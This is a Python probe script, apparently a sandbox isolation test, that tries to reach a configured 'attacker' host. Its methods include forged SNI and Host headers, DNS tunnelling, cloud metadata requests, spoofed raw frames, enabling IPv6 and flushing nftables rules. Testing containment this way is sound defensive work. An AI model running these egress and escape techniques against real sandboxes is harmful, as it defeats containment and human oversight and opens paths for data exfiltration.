"""The ways out, tried. Standard library only, any Python from 3.9: it runs inside sandboxes.

    python3 ways_out.py one NAME      try one way, or all at once
    python3 ways_out.py serve         read names on standard input, answer `done NAME RESULT` for each

What a probe prints is what the *sandbox* saw and decides nothing; what arrived at the other end does. Only the
`kernel` probes, which never leave the machine, are judged by their own result.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

TARGETS: dict[str, Any] = json.loads(os.environ.get("PROBE_TARGETS", "{}"))
WAIT = 0.6
MARKER = str(TARGETS.get("marker", "sallyport-probe-marker")).encode()


def tcp(address: str, port: int, data: bytes = MARKER, mark: int | None = None) -> str:
    """Connect, send, and read what comes back."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT)
        if mark is not None:
            with contextlib.suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, 36, mark)
        sock.connect((address, port))
        sock.sendall(data)
        return f"received {len(sock.recv(4096))} bytes"


def udp(address: str, port: int, data: bytes = MARKER) -> str:
    """Send one datagram; nobody waits for an answer."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(data, (address, port))
    return "sent"


def tls(address: str, port: int, name: str | None) -> str:
    """A TLS handshake and one request; `name` None sends no SNI."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    raw = socket.create_connection((address, port), timeout=WAIT)
    with raw, context.wrap_socket(raw, server_hostname=name) as sock:
        sock.sendall(b"GET /probe HTTP/1.1\r\nHost: %s\r\n\r\n" % (name or address).encode())
        return f"received {len(sock.recv(4096))} bytes"


def resolve(name: str) -> str:
    """An address of `name`, by the resolver this place was given."""
    return str(socket.getaddrinfo(name, None, socket.AF_INET)[0][4][0])


def query(name: str, kind: int = 1) -> bytes:
    """The DNS query for `name`, as bytes."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 4242, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def every(*attempts: Callable[[], object]) -> str:
    """Try each; one failure does not keep the others from being tried."""
    results = []
    for attempt in attempts:
        try:
            results.append(str(attempt()))
        except OSError as error:
            results.append(type(error).__name__)
    return ", ".join(results)


def by_name() -> str:
    return tls(resolve(TARGETS["attacker_name"]), 443, TARGETS["attacker_name"])


def by_address() -> str:
    attacker = TARGETS["attacker"]
    return every(lambda: tls(attacker, 443, None), lambda: tls(attacker, 443, TARGETS["attacker_name"]))


def by_port() -> str:
    attacker = TARGETS["attacker"]
    return every(*[lambda port=port: tcp(attacker, port) for port in (22, 80, 8443)])


def forged_host() -> str:
    attacker, allowed = TARGETS["attacker"], TARGETS["allowed_name"].encode()
    named = TARGETS["attacker_name"].encode()
    return every(
        lambda: tcp(attacker, 80, b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % allowed),
        lambda: tcp(attacker, 80, b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (named, allowed)),
    )


def forged_sni() -> str:
    return every(
        lambda: tls(TARGETS["attacker"], 443, TARGETS["allowed_name"]),
        lambda: tls(TARGETS["attacker"], 8443, TARGETS["allowed_name"]),
    )


def plain_udp() -> str:
    return every(*[lambda port=port: udp(TARGETS["attacker"], port) for port in (53, 443, 9999)])


def quic() -> str:
    return udp(TARGETS["attacker"], 443, base64.b64decode(TARGETS["quic_initial"]))


def icmp() -> str:
    def checksum(data: bytes) -> int:
        total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
        total = (total >> 16) + (total & 0xFFFF)
        return ~(total + (total >> 16)) & 0xFFFF

    body = struct.pack("!HH", 1, 1) + MARKER
    packet = struct.pack("!BBH", 8, 0, 0) + body
    packet = struct.pack("!BBH", 8, 0, checksum(packet)) + body
    results = []
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
                sock.sendto(packet, (TARGETS["attacker"], 0))
                results.append("sent")
        except OSError as error:
            results.append(type(error).__name__)
    return ", ".join(results)


def ipv6() -> str:
    interface = TARGETS["interface"]
    for name in ("all", interface):
        with contextlib.suppress(OSError), open(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6", "w") as setting:
            setting.write("0")
    for command in (
        ["addr", "add", "2606:2800:222::2/64", "dev", interface, "nodad"],
        ["route", "add", "default", "dev", interface],
    ):
        with contextlib.suppress(OSError):
            subprocess.run(["ip", "-6", *command], capture_output=True, check=False)
    attacker = TARGETS["attacker_v6"]
    return every(lambda: tls(attacker, 443, TARGETS["attacker_name"]), lambda: udp(attacker, 9999))


def dns_over_tls() -> str:
    return tls(TARGETS["attacker"], 853, TARGETS["attacker_name"])


def dns_tunnel() -> str:
    name = f"{MARKER.hex()[:40]}.{TARGETS['tunnel_zone']}"
    message = query(name)
    framed = struct.pack("!H", len(message)) + message
    servers = [TARGETS["resolver"], TARGETS["attacker"], TARGETS["dns"]]
    return every(
        lambda: resolve(name),
        *[lambda server=server: udp(server, 53, message) for server in servers],
        *[lambda server=server: udp(server, 53, query(name, 16)) for server in servers],
        *[lambda server=server: tcp(server, 53, framed) for server in servers],
    )


def metadata() -> str:
    return every(
        lambda: tcp(TARGETS["metadata"], 80, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
        lambda: tcp(TARGETS["metadata"], 80, b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % TARGETS["allowed_name"].encode()),
        lambda: tls(TARGETS["metadata"], 443, "rebind.bank.example"),
    )


def host_ports() -> str:
    addresses = [TARGETS["host"], "127.0.0.1", "172.17.0.1"]
    return every(*[lambda a=address, p=port: tcp(a, p) for address in addresses for port in TARGETS["host_ports"]])


def gateway_ports() -> str:
    return every(*[lambda port=port: tcp(TARGETS["gateway"], port) for port in (8080, 15001, 15002, 22)])


def neighbour() -> str:
    return every(
        lambda: udp("192.0.2.2", 9999),
        lambda: udp("192.0.2.3", 9999),
        lambda: tcp("192.0.2.1", 44772),
        lambda: udp("192.0.2.1", 9999),
        lambda: raw_frame("192.0.2.2", everyone=True),
    )


def so_mark() -> str:
    return every(*[lambda mark=mark: tcp(TARGETS["attacker"], 22, mark=mark) for mark in (1, 0x15001, 0x7FFFFFFF)])


def raw_frame(destination: str, everyone: bool = False) -> str:
    """Hand-made frames to the gateway, or to everyone: UDP to `destination`, also from a stranger's address."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((TARGETS["interface"], 0x0800))
        own = sock.getsockname()[4]
        gateway = (
            bytes.fromhex(TARGETS["gateway_mac"].replace(":", ""))
            if TARGETS.get("gateway_mac") and not everyone
            else b"\xff" * 6
        )
        for source in (TARGETS["inside"], "93.184.216.99"):
            body = struct.pack("!HHHH", 4242, 9999, 8 + len(MARKER), 0) + MARKER
            header = bytearray(
                struct.pack(
                    "!BBHHHBBH4s4s",
                    0x45,
                    0,
                    20 + len(body),
                    1,
                    0,
                    64,
                    17,
                    0,
                    socket.inet_aton(source),
                    socket.inet_aton(destination),
                )
            )
            total = sum(struct.unpack("!10H", header))
            total = (total >> 16) + (total & 0xFFFF)
            struct.pack_into("!H", header, 10, ~(total + (total >> 16)) & 0xFFFF)
            sock.send(gateway + own + b"\x08\x00" + bytes(header) + body)
    return "sent"


def af_packet() -> str:
    return raw_frame(TARGETS["attacker"])


def nft_flush() -> str:
    done = subprocess.run(["nft", "flush", "ruleset"], capture_output=True, check=False)
    seen = every(lambda: tcp(TARGETS["attacker"], 22), lambda: udp(TARGETS["attacker"], 9999))
    return f"nft exit {done.returncode}, {seen}"


def af_vsock() -> str:
    with socket.socket(40, socket.SOCK_STREAM):
        return "opened"


def io_uring() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    fd = libc.syscall(425, 4, parameters)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(fd)
    return "opened"


PROBES = {
    "by-name": by_name,
    "by-address": by_address,
    "by-port": by_port,
    "forged-host": forged_host,
    "forged-sni": forged_sni,
    "udp": plain_udp,
    "quic": quic,
    "icmp": icmp,
    "ipv6": ipv6,
    "dns-over-tls": dns_over_tls,
    "dns-tunnel": dns_tunnel,
    "metadata": metadata,
    "host-ports": host_ports,
    "gateway-ports": gateway_ports,
    "neighbour": neighbour,
    "so-mark": so_mark,
    "af-packet": af_packet,
    "nft-flush": nft_flush,
    "af-vsock": af_vsock,
    "io-uring": io_uring,
}


def attempt(name: str) -> str:
    """Run one probe, or `all` of them at once; returns one line about what this side saw."""
    if name == "all":
        with ThreadPoolExecutor(len(PROBES)) as pool:
            return "; ".join(f"{probe}: {seen}" for probe, seen in zip(PROBES, pool.map(attempt, PROBES)))  # noqa: B905
    try:
        return PROBES[name]()
    except (OSError, ssl.SSLError, subprocess.SubprocessError) as error:
        return f"{type(error).__name__}: {str(error)[:80]}"


def main() -> None:
    if sys.argv[1] == "one":
        print(attempt(sys.argv[2]))
        return
    for line in sys.stdin:
        name = line.strip()
        print(f"done {name}", attempt(name).replace("\n", " "), flush=True)


if __name__ == "__main__":
    main()
